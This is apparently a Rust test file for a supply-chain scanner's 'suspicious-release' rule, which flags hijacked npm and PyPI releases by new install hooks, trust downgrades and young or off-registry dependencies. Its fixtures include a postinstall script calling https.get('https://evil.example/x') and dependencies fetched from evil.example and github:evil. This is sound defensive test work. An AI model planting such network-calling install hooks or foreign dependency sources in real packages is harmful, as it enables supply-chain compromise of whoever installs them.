//! `suspicious-release` through the whole program: a registry on this machine, a change, the report.

use linchpin::package::Ecosystem;
use serde_json::{Value, json};

use super::histories::{LATELY, SETTLED, audit, change, change_text, message, of, wheel_file};
use crate::support::archives::{tarball, wheel};
use crate::support::registry::{Packument, Registries, npm_lock_of, trusted};
use crate::support::sandbox::{NOW, Output, Report, Sandbox};
use crate::support::server::Answer;

/// Judges a change from some packages to others.
pub(super) fn diff(
    sandbox: &Sandbox,
    before: &[(&str, &str)],
    after: &[(&str, &str)],
    more: &[&str],
) -> Output {
    sandbox.write("before/package-lock.json", npm_lock_of(before));
    sandbox.write("after/package-lock.json", npm_lock_of(after));
    sandbox.write("linchpin.toml", "[gate]\nrequire = [\"history\"]\n");
    let fixed = [
        "diff",
        "--before",
        "before",
        "--after",
        "after",
        "--as-of",
        NOW,
        "--config",
        "linchpin.toml",
    ];
    sandbox.run(&[&fixed[..], more].concat())
}

/// The same as a report.
pub(super) fn report(sandbox: &Sandbox, before: &[(&str, &str)], after: &[(&str, &str)]) -> Report {
    let output = diff(sandbox, before, after, &["--format", "json"]);
    let json = serde_json::from_str(&output.stdout)
        .unwrap_or_else(|error| panic!("no report: {error}\n{output}"));
    Report { json, output }
}

/// A package that a trusted pipeline published for long.
fn attested() -> Packument {
    Packument::new("acme").routine(10, &trusted())
}

pub(super) fn signals(finding: &Value) -> Vec<&str> {
    let evidence = finding["evidence"].as_array().expect("evidence");
    evidence
        .iter()
        .map(|one| one["signal"].as_str().expect("a signal"))
        .collect()
}

#[test]
fn a_hijack_is_blocked_at_the_minute_of_publication_with_its_reasons_and_the_way_back() {
    let registries = Registries::start();
    let stolen = json!({ "gitHead": null, "dependencies": { "plain-acme": "^1.0.0" } });
    registries.npm(&attested().release("1.10.0", LATELY, &stolen));
    let staged =
        json!({ "_npmUser": { "name": "mallory" }, "scripts": { "postinstall": "node setup.js" } });
    registries.npm(&Packument::new("plain-acme").release(
        "1.0.0",
        "2026-10-31T05:00:00.000Z",
        &staged,
    ));
    let sandbox = registries.sandbox();
    let (before, after) = (
        [("acme", "1.9.0")],
        [("acme", "1.10.0"), ("plain-acme", "1.0.0")],
    );
    insta::assert_snapshot!(diff(&sandbox, &before, &after, &["-v"]).stdout);
    let report = report(&sandbox, &before, &after);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    assert_eq!(
        signals(finding),
        [
            "identity/trust-downgrade",
            "surface/exec-dependency",
            "age/under-1-day"
        ]
    );
    assert_eq!(finding["evidence"][0]["malicious"], json!([5, 44]));
    assert_eq!(
        finding["fix"]["command"],
        "npm install --save-exact acme@1.9.0"
    );
    assert_eq!(finding["fix"]["until"], "2026-11-07T23:00:00Z");
}

#[test]
fn an_ordinary_update_says_nothing() {
    let registries = Registries::start();
    registries.npm(&attested().release("1.10.0", LATELY, &trusted()));
    let report = report(
        &registries.sandbox(),
        &[("acme", "1.9.0")],
        &[("acme", "1.10.0")],
    );
    assert_eq!(report.rules(), ["too-new"]);
    assert_eq!(report.code(), 0);
}

#[test]
fn a_back_port_to_a_line_that_was_never_attested_is_no_downgrade() {
    let registries = Registries::start();
    let old = Packument::new("acme")
        .release("0.9.0", "2025-01-01T00:00:00.000Z", &json!({}))
        .routine(10, &trusted())
        .release("0.9.1", LATELY, &json!({}));
    registries.npm(&old);
    let report = report(
        &registries.sandbox(),
        &[("acme", "0.9.0")],
        &[("acme", "0.9.1")],
    );
    assert_eq!(report.rules(), ["too-new"]);
}

#[test]
fn a_history_that_cannot_be_had_is_incomplete_and_never_clean() {
    let registries = Registries::start();
    let sandbox = registries
        .sandbox()
        .variable("LINCHPIN_REGISTRY_NPM", "http://127.0.0.1:9/");
    let report = report(&sandbox, &[("acme", "1.9.0")], &[("acme", "1.10.0")]);
    assert_eq!(
        (report.code(), &report.json["verdict"]),
        (3, &json!("incomplete"))
    );
    let why = report.json["incomplete_because"][0]
        .as_str()
        .expect("a reason");
    assert!(why.contains("acme"), "{why}");
}

/// A packument of releases: version, time, and what differs from an ordinary one.
fn published(name: &str, releases: &[(&str, &str, &Value)]) -> Packument {
    let all = releases.iter();
    all.fold(Packument::new(name), |package, (version, day, other)| {
        package.release(version, &format!("{day}T12:00:00.000Z"), other)
    })
}

/// Judges a change of one package.
fn bump(package: &Packument, before: &str, after: &str) -> Report {
    let registries = Registries::start();
    registries.npm(package);
    let name = package.json["name"].as_str().expect("a name");
    change(
        &registries.sandbox(),
        Ecosystem::Npm,
        &[(name, before)],
        &[(name, after)],
    )
}

/// Releases of pnpm's users that its trust policy stopped and that were harmless: their shapes, under other names.
#[test]
fn known_false_alarms_of_a_trust_policy_stay_silent() {
    let (none, pipeline) = (&json!({}), &trusted());
    let by_token = &json!({ "dist": { "attestations": { "provenance": { "predicateType": "https://slsa.dev/provenance/v1" } } } });
    let day = "2026-10-31";
    // A fix for a line that is older than provenance, as semver 5.7.2.
    let old_line = Packument::new("a")
        .release("5.7.0", "2019-03-26T12:00:00.000Z", none)
        .release("5.7.1", "2019-08-12T12:00:00.000Z", none)
        .routine(10, pipeline)
        .release("5.7.2", LATELY, none);
    // A maintainer's answer to a hijack, on three lines at once, as eslint-config-prettier 8.10.2.
    let mut answer = published(
        "a",
        &[
            ("8.9.0", "2023-07-27", none),
            ("8.10.0", "2023-08-03", none),
            ("9.1.0", "2023-12-02", none),
            ("10.1.3", "2026-05-05", pipeline),
            ("10.1.4", "2026-06-05", pipeline),
            ("10.1.5", "2026-07-05", pipeline),
            ("8.10.2", day, none),
            ("9.1.2", day, none),
            ("10.1.8", day, none),
        ],
    );
    for pulled in ["8.10.1", "9.1.1", "10.1.6", "10.1.7"] {
        answer.json["time"][pulled] = json!("2026-10-31T09:00:00.000Z");
    }
    // From a pipeline's own right to a token in a pipeline, as vite 6.4.1.
    let weaker = Packument::new("a")
        .routine(10, pipeline)
        .release("1.9.1", LATELY, by_token);
    // A release by hand on a line of which two were attested, as chokidar 4.0.3.
    let young_habit = published(
        "a",
        &[
            ("3.6.0", "2025-02-06", none),
            ("4.0.0", "2025-09-13", none),
            ("4.0.1", "2026-09-18", pipeline),
            ("4.0.2", "2026-09-20", pipeline),
            ("4.0.3", day, none),
        ],
    );
    // A line that is published by hand while the next one is not, as undici-types 6.
    let beside = published(
        "a",
        &[
            ("6.19.0", "2025-06-01", pipeline),
            ("6.20.0", "2025-10-01", pipeline),
            ("7.0.0", "2025-12-01", pipeline),
            ("6.21.0", "2026-01-01", none),
            ("7.1.0", "2026-02-01", pipeline),
            ("7.2.0", "2026-03-01", pipeline),
            ("7.3.0", "2026-04-01", pipeline),
            ("6.21.1", day, none),
        ],
    );
    for (package, before, after) in [
        (old_line, "5.7.1", "5.7.2"),
        (answer, "8.10.0", "8.10.2"),
        (weaker, "1.9.0", "1.9.1"),
        (young_habit, "4.0.2", "4.0.3"),
        (beside, "6.21.0", "6.21.1"),
    ] {
        let report = bump(&package, before, after);
        assert_eq!(of(&report, "suspicious-release").len(), 0, "{after}");
        assert_eq!(report.code(), 0, "{after}");
    }
}

/// Three attested releases in a row are a habit, five of the last eight too.
#[test]
fn a_habit_that_is_lost_is_told_and_a_shorter_one_is_none() {
    let line = |attested: [bool; 8]| {
        let days = (1..).map(|month| format!("2026-{month:02}-01"));
        let mut package = Packument::new("a");
        for ((number, day), is_attested) in (0..).zip(days).zip(attested) {
            let other = if is_attested { trusted() } else { json!({}) };
            package = package.release(
                &format!("1.{number}.0"),
                &format!("{day}T12:00:00Z"),
                &other,
            );
        }
        let report = bump(
            &package.release("1.8.0", LATELY, &json!({})),
            "1.7.0",
            "1.8.0",
        );
        of(&report, "suspicious-release").len()
    };
    let (yes, no) = (true, false);
    assert_eq!(line([no, no, no, yes, yes, yes, yes, yes]), 1);
    assert_eq!(line([yes, yes, no, no, no, yes, yes, yes]), 1);
    assert_eq!(line([no, no, no, no, yes, yes, yes, yes]), 0);
    assert_eq!(line([yes, yes, yes, yes, yes, no, yes, yes]), 0);
    assert_eq!(line([yes, yes, yes, yes, yes, yes, yes, no]), 0);
}

/// A package that did without a hook for long, and gets this one.
pub(super) fn first_hook(command: &str) -> Packument {
    let scripts = json!({ "scripts": { "postinstall": command }, "dist": { "integrity": null } });
    Packument::new("acme")
        .routine(10, &json!({}))
        .release("1.10.0", LATELY, &scripts)
}

/// Registries that serve a package with a first hook, and its archive.
pub(super) fn with_archive(command: &str, files: &[(&str, &str)]) -> Registries {
    let registries = Registries::start();
    registries.npm(&first_hook(command));
    let files: Vec<(&str, &str)> = [("package.json", "{}")]
        .iter()
        .chain(files)
        .copied()
        .collect();
    let archive = Answer::Bytes(tarball(&files));
    registries
        .server
        .answer("/npm/acme/-/acme-1.10.0.tgz", archive);
    registries
}

pub(super) fn bump_of(registries: &Registries) -> Report {
    change(
        &registries.sandbox(),
        Ecosystem::Npm,
        &[("acme", "1.9.0")],
        &[("acme", "1.10.0")],
    )
}

#[test]
fn a_first_hook_that_prints_a_line_says_nothing() {
    let report = bump(&first_hook("echo \"thank you\""), "1.9.0", "1.10.0");
    assert_eq!(report.rules(), ["too-new"]);
    assert_eq!(report.code(), 0);
}

#[test]
fn a_first_hook_that_nobody_could_look_at_blocks() {
    let report = bump(&first_hook("node x.js"), "1.9.0", "1.10.0");
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    assert_eq!(signals(finding), ["surface/exec-first", "age/under-1-day"]);
    assert_eq!(
        message(finding),
        "its postinstall script `node x.js` runs when it is installed; none of the 10 releases before it is known to have had one; it was published 60 minutes ago; what its install script does was not looked at, because its archive was not read"
    );
    assert_eq!(report.code(), 1);
}

#[test]
fn a_package_that_always_had_a_hook_says_nothing() {
    let scripts = json!({ "scripts": { "postinstall": "node x.js" } });
    let package = Packument::new("acme")
        .routine(10, &scripts)
        .release("1.10.0", LATELY, &scripts);
    assert_eq!(bump(&package, "1.9.0", "1.10.0").rules(), ["too-new"]);
}

#[test]
fn a_first_hook_that_only_prints_a_message_is_cleared_and_says_so() {
    let banner = "console.log('thank you');\n";
    let registries = with_archive("node x.js", &[("x.js", banner)]);
    let report = bump_of(&registries);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "low");
    assert_eq!(
        message(finding),
        "it was published 60 minutes ago; x.js of its postinstall script prints a message and does nothing else"
    );
    assert_eq!(finding["evidence"][0]["decibans"], 0.0);
    assert_eq!(report.only("too-new")["severity"], "low");
    assert_eq!(report.code(), 0);
}

#[test]
fn a_first_hook_that_opens_a_connection_is_confirmed_with_the_line() {
    let script = "const https = require('https');\nhttps.get('https://evil.example/x');\n";
    let registries = with_archive("node x.js", &[("x.js", script)]);
    let report = bump_of(&registries);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    let seen = "; x.js of its postinstall script opens a network connection (line 1: const https = require('https');)";
    assert!(message(finding).ends_with(seen), "{finding}");
    assert_eq!(report.code(), 1);
}

/// Whoever brings code by a dependency may add a banner of their own.
#[test]
fn a_harmless_hook_clears_no_dependency_that_runs_code() {
    let mut package = first_hook("node x.js");
    package.json["versions"]["1.10.0"]["dependencies"] = json!({ "left": "^1.0.0" });
    let registries = with_archive("node x.js", &[("x.js", "console.log('thank you');\n")]);
    registries.npm(&package);
    let staged = json!({ "scripts": { "postinstall": "node setup.js" } });
    registries.npm(&Packument::new("left").release("1.0.0", LATELY, &staged));
    let report = bump_of(&registries);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    assert_eq!(
        signals(finding),
        ["surface/exec-dependency", "age/under-1-day"]
    );
    let seen = "x.js of its postinstall script prints a message and does nothing else";
    assert!(message(finding).ends_with(seen), "{finding}");
}

/// An alias hides the name of what is installed from nobody but readers.
#[test]
fn a_new_dependency_that_runs_code_blocks_under_another_name() {
    let registries = Registries::start();
    let after = with_dependencies(&json!({ "harmless": "npm:left@^1.0.0" }));
    let package = Packument::new("acme").routine(10, &json!({}));
    registries.npm(&package.release("1.10.0", LATELY, &after));
    let staged = json!({ "scripts": { "postinstall": "node setup.js" } });
    registries.npm(&Packument::new("left").release("1.0.0", LATELY, &staged));
    let report = bump_of(&registries);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "high");
    assert!(message(finding).starts_with("its new dependency left 1.0.0 runs `node setup.js`"));
}

/// Judges a release of acme that brings left by these fields, which has releases of its own, at this version in the lockfile.
fn bump_with_left(fields: &Value, left: &Packument, locked: &str) -> Report {
    let registries = Registries::start();
    let package = Packument::new("acme").routine(10, &json!({}));
    registries.npm(&package.release("1.10.0", LATELY, fields));
    registries.npm(left);
    let after = [("acme", "1.10.0"), ("left", locked)];
    let sandbox = registries.sandbox();
    change(&sandbox, Ecosystem::Npm, &[("acme", "1.9.0")], &after)
}

fn severities(report: &Report) -> Vec<&str> {
    let findings = of(report, "suspicious-release").into_iter();
    findings
        .filter_map(|finding| finding["severity"].as_str())
        .collect()
}

/// npm installs peers that nobody brings along, since its version 7.
#[test]
fn a_young_peer_that_runs_code_blocks_and_others_do_not() {
    let staged = json!({ "scripts": { "postinstall": "node setup.js" } });
    let young = Packument::new("left").release("1.0.0", LATELY, &staged);
    let old = Packument::new("left").release("1.0.0", "2026-05-01T00:00:00Z", &staged);
    let peers = json!({ "peerDependencies": { "left": "^1.0.0" } });
    let mut optional = peers.clone();
    optional["peerDependenciesMeta"] = json!({ "left": { "optional": true } });
    let blocked = bump_with_left(&peers, &young, "1.0.0");
    assert!(severities(&blocked).contains(&"high"), "{}", blocked.output);
    for (fields, left) in [(&optional, &young), (&peers, &old)] {
        let report = bump_with_left(fields, left, "1.0.0");
        assert_eq!(severities(&report), [""; 0], "{fields}");
    }
}

/// What is locked is what will be installed, whatever else is there.
#[test]
fn the_locked_release_of_a_new_dependency_counts_and_not_only_the_highest() {
    let staged = json!({ "scripts": { "postinstall": "node setup.js" } });
    let left = Packument::new("left")
        .release("1.0.0", "2026-10-20T00:00:00Z", &staged)
        .release("1.0.1", "2026-10-20T01:00:00Z", &json!({}));
    let fields = with_dependencies(&json!({ "left": "^1.0.0" }));
    assert_eq!(
        severities(&bump_with_left(&fields, &left, "1.0.0")),
        ["high"]
    );
    assert_eq!(
        severities(&bump_with_left(&fields, &left, "1.0.1")),
        [""; 0]
    );
}

/// Dependencies beyond what a run asks about may hide one that matters.
#[test]
fn a_release_with_more_new_dependencies_than_are_asked_about_is_not_judged() {
    let of = |count: usize| {
        let names = (0..count).map(|number| (format!("left-{number:03}"), json!("^1.0.0")));
        let after = with_dependencies(&Value::Object(names.collect()));
        let package = Packument::new("acme").routine(10, &json!({}));
        bump(
            &package.release("1.10.0", LATELY, &after),
            "1.9.0",
            "1.10.0",
        )
    };
    let (checked, skipped) = of(501).coverage("suspicious-release");
    assert_eq!((checked, skipped), (0, vec![("over-budget".to_owned(), 1)]));
    let (_, skipped) = of(500).coverage("suspicious-release");
    assert_eq!(skipped, [("unread-archive".to_owned(), 1)]);
}

/// Attackers publish twice: beside the first bad release the second one looks normal.
#[test]
fn the_second_of_two_bad_releases_looks_no_better() {
    let scripts = json!({ "scripts": { "postinstall": "node x.js" } });
    let package = first_hook("node x.js").release("1.10.1", "2026-10-31T23:30:00.000Z", &scripts);
    let report = bump(&package, "1.9.0", "1.10.1");
    assert_eq!(report.only("suspicious-release")["severity"], "high");
    let staged = Packument::new("acme")
        .routine(10, &json!({}))
        .release(
            "1.10.0",
            "2026-10-20T00:00:00.000Z",
            &json!({ "scripts": { "postinstall": "echo hello" } }),
        )
        .release("1.10.1", LATELY, &scripts);
    let report = bump(&staged, "1.9.0", "1.10.1");
    assert_eq!(
        report.only("suspicious-release")["severity"],
        "high",
        "a banner is no habit of running code"
    );
}

/// An archive that is none, or too large, clears nothing.
#[test]
fn a_first_hook_whose_archive_cannot_be_read_blocks() {
    let registries = Registries::start();
    registries.npm(&first_hook("node x.js"));
    for archive in [
        Answer::Bytes(b"no archive".to_vec()),
        Answer::Bytes(tarball(&[("y.js", "console.log(1)")])),
        Answer::Claims(21 << 20),
        Answer::Status(404, Vec::new()),
    ] {
        registries
            .server
            .answer("/npm/acme/-/acme-1.10.0.tgz", archive);
        let report = bump_of(&registries);
        assert_eq!(report.only("suspicious-release")["severity"], "high");
    }
}

#[test]
fn a_first_hook_on_a_young_package_is_no_block() {
    let scripts = json!({ "scripts": { "postinstall": "node x.js" } });
    let package = Packument::new("acme")
        .routine(3, &json!({}))
        .release("1.3.0", LATELY, &scripts);
    let report = bump(&package, "1.2.0", "1.3.0");
    let finding = report.only("suspicious-release");
    assert_eq!(
        signals(finding),
        ["surface/exec-first-thin", "age/under-1-day"]
    );
    assert_eq!(finding["severity"], "medium");
}

fn with_dependencies(dependencies: &Value) -> Value {
    json!({ "dependencies": dependencies })
}

#[test]
fn a_new_dependency_from_no_registry_blocks_and_one_that_moved_does_not() {
    for place in [
        "github:evil/left",
        "git+https://git.example/left.git",
        "evil/left",
        "https://evil.example/left.tgz",
    ] {
        let package = |before: &Value| {
            let after = with_dependencies(&json!({ "left": place }));
            Packument::new("acme")
                .routine(10, before)
                .release("1.10.0", LATELY, &after)
        };
        let report = bump(&package(&json!({})), "1.9.0", "1.10.0");
        let finding = report.only("suspicious-release");
        assert_eq!(finding["severity"], "high", "{place}");
        assert!(
            message(finding).starts_with(&format!("its new dependency left comes from {place}"))
        );
        let before = with_dependencies(&json!({ "left": "^1.0.0" }));
        assert_eq!(
            bump(&package(&before), "1.9.0", "1.10.0").rules(),
            ["too-new"]
        );
    }
}

/// Judges 1.9.0 against a release that brings a dependency which appeared three days ago.
fn with_young_dependency(version: &str, publisher: &str) -> Report {
    let registries = Registries::start();
    let after = with_dependencies(&json!({ "left": "^1.0.0" }));
    let package = Packument::new("acme").routine(10, &json!({}));
    registries.npm(&package.release(version, LATELY, &after));
    let who = json!({ "_npmUser": { "name": publisher }, "maintainers": [{ "name": publisher }] });
    registries.npm(&Packument::new("left").release("1.0.0", "2026-10-29T00:00:00.000Z", &who));
    change(
        &registries.sandbox(),
        Ecosystem::Npm,
        &[("acme", "1.9.0")],
        &[("acme", version)],
    )
}

#[test]
fn a_young_dependency_of_a_stranger_in_a_patch_is_medium() {
    let report = with_young_dependency("1.9.1", "mallory");
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "medium");
    assert_eq!(
        signals(finding),
        ["surface/young-foreign-dependency", "age/under-1-day"]
    );
    assert!(
        message(finding).starts_with(
            "a patch release brings left, which first appeared within the week before"
        )
    );
    for (version, publisher) in [("1.10.0", "mallory"), ("1.9.1", "ann")] {
        let report = with_young_dependency(version, publisher);
        assert_eq!(report.rules(), ["too-new"], "{version} {publisher}");
    }
}

/// A project whose release of an hour ago has one more file in its wheel than the one before.
fn with_wheels(more: &str, filler: usize) -> Registries {
    let registries = Registries::start();
    let filler: Vec<String> = (0..filler)
        .map(|number| format!("acme/{number:060}.py"))
        .collect();
    let mut names = vec!["acme/__init__.py"];
    names.extend(filler.iter().map(String::as_str));
    let mut files = Vec::new();
    for (version, time, more) in [("1.0.0", SETTLED, None), ("1.1.0", LATELY, Some(more))] {
        let names: Vec<&str> = more.into_iter().chain(names.iter().copied()).collect();
        let bytes = wheel(&names);
        let file = wheel_file("acme", version, time, &json!({ "size": bytes.len() }));
        let path = file["url"].as_str().expect("an address").to_owned();
        registries.server.answer(&path, Answer::Bytes(bytes));
        files.push(file);
    }
    registries.pypi("acme", &files);
    registries
}

#[test]
fn a_wheel_that_runs_code_whenever_python_starts_is_medium_and_waits() {
    let registries = with_wheels("acme_init.pth", 0);
    let (before, after) = ([("acme", "1.0.0")], [("acme", "1.1.0")]);
    let report = change(&registries.sandbox(), Ecosystem::Pypi, &before, &after);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "medium");
    assert_eq!(signals(finding), ["surface/pth-first", "age/under-1-day"]);
    let start = "its wheel holds acme_init.pth, which runs whenever Python starts";
    assert!(message(finding).starts_with(start), "{finding}");
    assert_eq!(report.only("too-new")["severity"], "high");
    let plain = with_wheels("acme/init.py", 0);
    let report = change(&plain.sandbox(), Ecosystem::Pypi, &before, &after);
    assert_eq!(report.rules(), ["too-new"]);
}

#[test]
fn only_the_directory_of_a_wheel_is_read() {
    let registries = with_wheels("acme_init.pth", 3000);
    let (before, after) = ([("acme", "1.0.0")], [("acme", "1.1.0")]);
    let report = change(&registries.sandbox(), Ecosystem::Pypi, &before, &after);
    assert_eq!(report.only("suspicious-release")["severity"], "medium");
    let asked = registries.server.asked();
    let wheels = asked
        .iter()
        .filter(|asked| asked.path.starts_with("/files/"));
    let ranges: Vec<&Option<String>> = wheels.map(|asked| &asked.range).collect();
    assert!(ranges.len() >= 4, "the directory is long: {ranges:?}");
    assert!(ranges.iter().all(|range| range.is_some()), "{ranges:?}");
}

#[test]
fn a_release_that_is_many_times_as_large_is_medium() {
    let sized = |bytes: u64| {
        let package = Packument::new("acme").routine(10, &json!({})).release(
            "1.10.0",
            LATELY,
            &json!({ "dist": { "unpackedSize": bytes } }),
        );
        bump(&package, "1.9.0", "1.10.0")
    };
    let report = sized(5_000_000);
    let finding = report.only("suspicious-release");
    assert_eq!(finding["severity"], "medium");
    assert_eq!(
        signals(finding),
        ["artifact/size-outlier", "age/under-1-day"]
    );
    let start = "it is 500 times as large as any release before it (5000000 bytes after 10000)";
    assert!(message(finding).starts_with(start), "{finding}");
    assert_eq!(sized(500_000).rules(), ["too-new"], "a picture or two");
}

/// Half of the world releases often, and everything was new once.
#[test]
fn age_and_rhythm_alone_never_say_anything() {
    let old = published(
        "acme",
        &[
            ("0.9.0", "2020-01-01", &json!({})),
            ("1.9.0", "2020-02-01", &json!({})),
            ("2.0.0", "2020-03-01", &json!({})),
        ],
    );
    let together = old
        .release("0.9.1", LATELY, &json!({}))
        .release("1.9.1", LATELY, &json!({}))
        .release("2.0.1", LATELY, &json!({}));
    assert_eq!(bump(&together, "1.9.0", "1.9.1").rules(), ["too-new"]);
}

#[test]
fn decibans_are_shown_to_those_who_ask() {
    let registries = Registries::start();
    registries.npm(&first_hook("node x.js"));
    let sandbox = registries.sandbox();
    let text = |more: &[&str]| {
        let (before, after) = ([("acme", "1.9.0")], [("acme", "1.10.0")]);
        change_text(&sandbox, Ecosystem::Npm, &before, &after, more).stdout
    };
    let (plain, more) = (text(&[]), text(&["-v"]));
    assert!(
        !plain.contains(" dB") && !plain.contains("= score"),
        "{plain}"
    );
    assert!(
        plain.contains("15 of 31 incidents, 8 of 13,140 harmless releases"),
        "{plain}"
    );
    assert!(
        more.contains("+25.5 dB") && more.contains("= score  36.2 dB"),
        "{more}"
    );
}

#[test]
fn an_audit_judges_what_is_younger_than_a_week() {
    for (time, count) in [
        (LATELY, 1),
        ("2026-10-25T00:00:01.000Z", 1),
        ("2026-10-25T00:00:00.000Z", 0),
    ] {
        let registries = Registries::start();
        let scripts = json!({ "scripts": { "postinstall": "node x.js" } });
        let package = Packument::new("acme").routine(10, &json!({}));
        registries.npm(&package.release("1.10.0", time, &scripts));
        let report = audit(
            &registries.sandbox(),
            Ecosystem::Npm,
            &[("acme", "1.10.0")],
            &[],
        );
        assert_eq!(of(&report, "suspicious-release").len(), count, "{time}");
    }
}

/// A way back that lies in the past is none.
#[test]
fn nobody_is_told_to_wait_for_a_day_that_is_over() {
    let scripts = json!({ "scripts": { "postinstall": "node x.js" } });
    let package = Packument::new("acme")
        .routine(10, &json!({}))
        .release("1.10.0", SETTLED, &scripts);
    let report = bump(&package, "1.9.0", "1.10.0");
    let finding = report.only("suspicious-release");
    assert_eq!(finding["fix"]["until"], json!(null));
    assert_eq!(
        finding["fix"]["command"],
        "npm install --save-exact acme@1.9.0"
    );
}
